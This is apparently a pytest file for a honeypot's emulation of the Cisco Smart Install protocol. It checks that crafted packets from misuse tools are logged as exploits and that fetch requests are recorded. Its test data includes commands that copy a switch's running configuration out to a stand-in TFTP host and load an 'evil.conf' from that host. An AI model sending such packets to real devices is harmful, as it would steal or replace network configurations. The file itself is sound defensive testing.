"""Smart Install: what the tools for its misuse send, what is fetched, and what is only stated."""

from __future__ import annotations

import struct

import pytest

from eudaemon.events.catalogue import CommandEntered, ExploitRecognised
from eudaemon.protocols import smartinstall
from eudaemon.protocols._base import Claim
from eudaemon.protocols.smartinstall import HEAD, SmartInstall
from eudaemon.testing.script import Table, visit

HELLO = HEAD.pack(1, 1, 4, 8) + struct.pack(">II", 1, 0)
COPIES = ("copy system:running-config flash:/config.text", "copy flash:/config.text tftp://198.51.100.7/192.0.2.1.conf")


def talk() -> Table:
    return Table(SmartInstall(visit(port=4786))).open()


def commands(*texts: str) -> bytes:
    """A message of three fields of 336 bytes, as the tools fill them."""
    data = bytes.fromhex("0001001400000001000000 00fc99473786600000000303f4".replace(" ", ""))
    data += b"".join(text.encode().ljust(336, b"\0") for text in (*texts, "", "")[:3])
    return HEAD.pack(1, 1, 8, len(data)) + data


@pytest.mark.parametrize("split", [0, 1])
def test_what_the_tools_send(split: int) -> None:
    table = talk()
    assert table.say(HELLO, split).hex() == "000000040000000000000003000000080000000100000000"
    table.say(commands(*COPIES), split)
    assert ExploitRecognised("smart-install", "T1601", "; ".join(COPIES)) in table.facts
    assert [fact.line for fact in table.facts if isinstance(fact, CommandEntered)][1:] == list(COPIES)
    assert not table.wishes, "a configuration that would go elsewhere goes nowhere"


def test_a_configuration_is_fetched() -> None:
    table = talk()
    table.say(commands("copy tftp://198.51.100.7/evil.conf system:running-config"))
    config = b"\0\0\0\3" + b"tftp://198.51.100.7/my.conf".ljust(300, b"\0")
    table.say(HEAD.pack(1, 1, 3, len(config)) + config)
    assert [(wish.download.url, wish.download.tool) for wish in table.wishes] == [
        ("tftp://198.51.100.7/evil.conf", "cisco copy"), ("tftp://198.51.100.7/my.conf", "cisco copy"),
    ]  # fmt: skip
    table.answer("ok", b"hostname x")
    assert not table.over


def test_an_initialisation_that_is_too_long_is_kept() -> None:
    for size, kept in ((1024, 0), (1025, 1)):
        table = talk()
        table.say(HEAD.pack(1, 1, 7, size) + bytes(size))
        assert len(table.kept) == kept
        assert any(isinstance(fact, ExploitRecognised) for fact in table.facts) == bool(kept)


def test_limits() -> None:
    table = talk()
    table.say(HEAD.pack(1, 1, 9, smartinstall.DATA_BYTES_MAX) + bytes(smartinstall.DATA_BYTES_MAX))
    assert not table.fault
    table.say(HEAD.pack(1, 1, 9, smartinstall.DATA_BYTES_MAX + 1))
    assert "over" in table.fault
    table = talk()
    for _ in range(smartinstall.MESSAGES_MAX):
        table.say(HELLO)
    assert not table.fault
    table.say(HELLO)
    assert "messages" in table.fault
    table = talk()
    texts = b"\0".join(b"text %d" % number for number in range(smartinstall.TEXTS_MAX + 1))
    table.say(HEAD.pack(1, 1, 8, len(texts)) + texts)
    assert sum(isinstance(fact, CommandEntered) for fact in table.facts) == smartinstall.TEXTS_MAX


def test_whose_conversation_it_is() -> None:
    claims = [SmartInstall.claim(HELLO[:size]) for size in range(1, 12)]
    assert claims == sorted(claims)
    assert claims[-1] == Claim.YES
    assert SmartInstall.claim(b"\0\0\0\2") == Claim.NO
